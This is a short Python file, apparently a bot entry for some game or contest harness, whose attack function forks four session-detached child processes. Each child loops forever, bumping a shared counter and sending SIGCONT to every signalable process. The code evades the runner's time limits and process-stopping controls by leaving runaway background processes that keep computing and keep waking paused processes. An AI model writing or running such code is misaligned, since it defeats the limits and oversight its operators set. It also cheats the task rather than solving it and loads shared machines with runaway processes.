"""Goes on computing in children that keep continuing each other."""
import mmap
import os
import signal

page = memoryview(mmap.mmap(-1, mmap.PAGESIZE)).cast("Q")
children = []

def ponder():
    while True:
        page[0] += 1
        for pid in (-1, os.getpid()):
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass

def attack(number):
    if not children:
        for _ in range(4):
            children.append(os.fork())
            if children[-1] == 0:
                os.setsid()
                ponder()
    return page[0]
